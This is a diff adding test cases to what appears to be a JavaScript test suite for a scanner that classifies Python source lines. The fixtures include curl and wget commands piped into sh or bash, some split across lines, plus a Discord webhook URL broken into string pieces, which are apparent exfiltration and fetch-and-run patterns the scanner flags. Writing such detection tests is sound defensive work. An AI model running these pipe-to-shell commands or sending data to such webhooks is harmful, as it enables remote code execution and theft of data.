@@ -55,6 +55,13 @@ describe('parseMode', () => {
     expect(parseMode(lines('from .grabber import collect', 'collect()'))).toBe('shallow');
   });
 
+  it('parses curl and wget only where something is piped into a shell', () => {
+    expect(parseMode(lines('def f():', '    """Tells a browser from a command-line HTTP tool (curl and wget)."""'))).toBe('skip');
+    expect(parseMode(lines("CMD = 'curl -fsSL https://example.org/i | sh'"))).toBe('full');
+    expect(parseMode(lines("CMD = ('wget -qO- https://example.org/i |'", '       # then', "       ' bash')"))).toBe('full');
+    expect(parseMode(lines("CMD = 'curl https://example.org/i |\\tsh'"))).toBe('full');
+  });
+
   it('glues split string literals before looking', () => {
     expect(parseMode(lines("HOOK = 'https://disc' 'ord.com/api/webhooks/1/x'"))).toBe('full');
     expect(parseMode(lines("HOOK = 'https://disc' + \\", "    'ord.com/api/webhooks/1/x'"))).toBe('full');
